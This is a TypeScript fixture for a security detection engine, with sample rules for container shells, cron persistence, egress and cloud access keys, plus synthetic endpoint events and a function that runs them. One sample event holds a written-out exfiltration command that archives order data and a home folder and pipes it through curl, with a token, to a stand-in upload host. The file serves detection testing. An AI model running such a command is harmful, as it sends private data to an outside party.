import { ecsCatalogue, FieldSlots, type JsonObject } from "@tallyman/ecs";
import {
  type Alert,
  Engine,
  type EngineReport,
  MemoryFirstSeenStore,
  type PreparedRules,
  prepareRules,
} from "@tallyman/engine";
import { loadRules } from "@tallyman/rules";

/** Rules of every look: each severity, new terms, a building block, some that cannot run. */
const rules: readonly JsonObject[] = [
  {
    type: "new_terms",
    rule_id: "5d1a6c1e-4a0e-4d0b-9a56-0c6f5f3a1b01",
    name: "Interactive shell in a container",
    description:
      "A shell with a terminal runs inside a container. Containers are seldom worked in by hand, so this is either someone\ndebugging or someone who should not be there.\n\nIt needs events with session data: process.interactive and process.entry_leader.entry_meta.type.\n",
    severity: "medium",
    risk_score: 47,
    index: ["logs-endpoint.events.process*"],
    from: "now-9m",
    timestamp_override: "event.ingested",
    language: "kuery",
    query:
      "event.category:process and event.action:exec and process.interactive:true and\nprocess.entry_leader.entry_meta.type:container and process.name:(bash or dash or sh or zsh)\n",
    new_terms_fields: ["process.parent.name"],
    history_window_start: "now-14d",
    references: ["https://attack.mitre.org/techniques/T1059/004/", "https://example.org/containers"],
    false_positives: ["Administrators who debug a container"],
    tags: ["Domain: Container", "OS: Linux", "Tactic: Execution"],
    setup:
      "## Setup\n\nThe events come from a sensor that knows *sessions*:\n\n- the built-in one, started with `tallyman watch`, or\n- any other that fills `process.entry_leader.*`; how it does so is its own affair, as long as every process of a session names the same leader\n\n```\ntallyman watch --rules rules/\n```\n",
    threat: [
      {
        framework: "MITRE ATT&CK",
        tactic: {
          id: "TA0002",
          name: "Execution",
          reference: "https://attack.mitre.org/tactics/TA0002/",
        },
        technique: [
          {
            id: "T1059",
            name: "Command and Scripting Interpreter",
            reference: "https://attack.mitre.org/techniques/T1059/",
            subtechnique: [
              {
                id: "T1059.004",
                name: "Unix Shell",
                reference: "https://attack.mitre.org/techniques/T1059/004/",
              },
            ],
          },
        ],
      },
    ],
  },
  {
    type: "query",
    rule_id: "5d1a6c1e-4a0e-4d0b-9a56-0c6f5f3a1b02",
    name: "Scheduled task written by a process that was started over the network",
    description: "A file in a folder of cron appears.",
    severity: "high",
    risk_score: 73,
    index: ["logs-endpoint.events.file*"],
    language: "kuery",
    query: "file.path:/etc/cron.d/*",
    threat: [
      {
        framework: "MITRE ATT&CK",
        tactic: {
          id: "TA0003",
          name: "Persistence",
          reference: "https://attack.mitre.org/tactics/TA0003/",
        },
        technique: [
          {
            id: "T1053",
            name: "Scheduled Task/Job",
            reference: "https://attack.mitre.org/techniques/T1053/",
            subtechnique: [
              {
                id: "T1053.003",
                name: "Cron",
                reference: "https://attack.mitre.org/techniques/T1053/003/",
              },
            ],
          },
        ],
      },
    ],
  },
  {
    type: "query",
    rule_id: "5d1a6c1e-4a0e-4d0b-9a56-0c6f5f3a1b03",
    name: "Egress from a container",
    description: "A container talks to the internet.",
    severity: "low",
    risk_score: 21,
    index: ["logs-endpoint.events.network*"],
    language: "kuery",
    query: "event.category:network and container.id:*",
  },
  {
    type: "query",
    rule_id: "5d1a6c1e-4a0e-4d0b-9a56-0c6f5f3a1b04",
    name: "Access key made for another user",
    description: "Someone makes an access key.",
    severity: "high",
    risk_score: 73,
    index: ["logs-aws.cloudtrail*"],
    language: "kuery",
    query: "event.action:CreateAccessKey",
  },
  {
    type: "query",
    rule_id: "5d1a6c1e-4a0e-4d0b-9a56-0c6f5f3a1b05",
    name: "Data sent out by a shell",
    description: "A shell sends a file away.",
    severity: "critical",
    risk_score: 99,
    index: ["logs-endpoint.events.process*"],
    language: "kuery",
    query: "process.command_line:*exfil*",
  },
  {
    type: "query",
    rule_id: "5d1a6c1e-4a0e-4d0b-9a56-0c6f5f3a1b06",
    name: "Any process of a container",
    description: "Only of use to other rules.",
    building_block_type: "default",
    severity: "low",
    risk_score: 1,
    index: ["logs-endpoint.events.process*"],
    language: "kuery",
    query: "container.id:* and event.action:exec",
  },
  {
    type: "eql",
    rule_id: "5d1a6c1e-4a0e-4d0b-9a56-0c6f5f3a1b08",
    name: "Egress after an interactive shell",
    description: "Someone at a shell reaches out.",
    severity: "high",
    risk_score: 73,
    index: ["logs-endpoint.events.*"],
    language: "eql",
    query: `sequence by container.id with maxspan=5m
  [process where process.interactive == true]
  [network where destination.port == 443]`,
  },
  {
    type: "machine_learning",
    rule_id: "5d1a6c1e-4a0e-4d0b-9a56-0c6f5f3a1b07",
    name: "Rare process",
    description: "Needs a trained job.",
    severity: "low",
    risk_score: 21,
    machine_learning_job_id: ["rare_process"],
    anomaly_threshold: 50,
  },
  {
    type: "esql",
    rule_id: "0b7a1a56-9f0e-4c5f-8d3a-6a9f3f1c2d44",
    name: "Many failures at once",
    description: "Counts in another language.",
    severity: "low",
    risk_score: 21,
    query: "from logs-* | stats count() by user.name",
  },
];

const endpoint = (dataset: string) => ({
  type: "logs",
  dataset: `endpoint.events.${dataset}`,
  namespace: "default",
});
const host = { id: "b1f0", name: "web-1", os: { type: "linux" } };
const container = {
  id: "3f2a91c04b77e0d1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f70819",
  name: "checkout",
  image: { name: "shop/checkout" },
};

/** Two days on a host with a container, and one event of a cloud account. */
export const sampleEvents: readonly JsonObject[] = [
  {
    "@timestamp": "2026-11-25T10:14:03.120Z",
    data_stream: endpoint("process"),
    event: { category: ["process"], type: ["start"], action: "exec", ingested: "2026-11-25T10:14:04Z" },
    host,
    container,
    user: { name: "root" },
    process: {
      pid: 29949,
      name: "bash",
      executable: "/bin/bash",
      args: ["bash", "-i"],
      command_line: "bash -i",
      interactive: true,
      entry_leader: { entry_meta: { type: "container" } },
      parent: { name: "entrypoint.sh", command_line: "/bin/sh /entrypoint.sh --serve", pid: 29925 },
    },
  },
  {
    "@timestamp": "2026-11-25T10:14:41.002Z",
    data_stream: endpoint("network"),
    event: { category: ["network"], type: ["start"], action: "connection_attempted" },
    host,
    container,
    user: { name: "root" },
    source: { ip: "172.17.0.2", port: 41822 },
    destination: { ip: "203.0.113.9", port: 443, domain: "paste.example" },
    network: { transport: "tcp" },
    process: { pid: 29951, name: "curl", executable: "/usr/bin/curl" },
  },
  {
    "@timestamp": "2026-11-25T10:14:41.310Z",
    data_stream: endpoint("process"),
    event: { category: ["process"], type: ["start"], action: "exec" },
    host,
    container,
    orchestrator: { namespace: "shop", resource: { type: "pod", name: "checkout-5f7c9" } },
    user: { name: "root" },
    process: {
      pid: 29952,
      name: "sh",
      executable: "/bin/sh",
      command_line:
        "sh -c \"tar cz /var/lib/shop/orders /home/ana/報告書 | curl -fsS -H 'X-Token: 8f14e45fceea167a5a36dedd4bea2543' --data-binary @- https://exfil.example/upload?name=orders-2026-11-25.tgz && rm -f /tmp/.x 😀\"",
      parent: { name: "bash", executable: "/bin/bash", pid: 29949 },
    },
  },
  {
    "@timestamp": "2026-11-25T23:59:59.900Z",
    data_stream: endpoint("file"),
    event: { category: ["file"], type: ["creation"], action: "creation" },
    host: { ...host, name: "db-primary-eu-west-1.internal.example.org" },
    user: { name: "svc deploy" },
    file: { path: "/etc/cron.d/refresh", name: "refresh" },
    process: {
      pid: 812,
      name: "python3",
      executable: "/usr/bin/python3",
      command_line: "python3 /opt/agent/run.py",
    },
  },
  {
    "@timestamp": "2026-11-26T00:03:10Z",
    data_stream: { type: "logs", dataset: "aws.cloudtrail", namespace: "default" },
    event: {
      category: ["iam"],
      action: "CreateAccessKey",
      provider: "iam.amazonaws.com",
      outcome: "failure",
    },
    cloud: { account: { id: "111122223333" }, region: "eu-west-1" },
    source: { ip: "2001:db8::7" },
    user: { name: "ana@example.org" },
    message: "AccessDenied",
  },
  {
    data_stream: { type: "logs", dataset: "aws.cloudtrail", namespace: "default" },
    event: { action: "CreateAccessKey", provider: "iam.amazonaws.com" },
    user: { name: "no clock" },
  },
];

export interface SampleRun {
  readonly prepared: PreparedRules;
  readonly alerts: readonly Alert[];
  readonly report: EngineReport;
}

/** The alerts that the engine raises for events, by default those above. */
export function runSample(events: readonly JsonObject[] = sampleEvents): SampleRun {
  const { rules: loaded, diagnostics } = loadRules([
    { path: "rules/sample.ndjson", text: rules.map((rule) => JSON.stringify(rule)).join("\n") },
  ]);
  if (diagnostics.some(({ severity }) => severity === "error"))
    throw new Error(JSON.stringify(diagnostics.map((d) => d.message)));
  const prepared = prepareRules(loaded, ecsCatalogue(), new FieldSlots());
  const engine = new Engine(prepared, { firstSeen: new MemoryFirstSeenStore([0, 0, 0, 0]) });
  const alerts = events.flatMap((document) => engine.process({ document }));
  return { prepared, alerts, report: engine.report() };
}
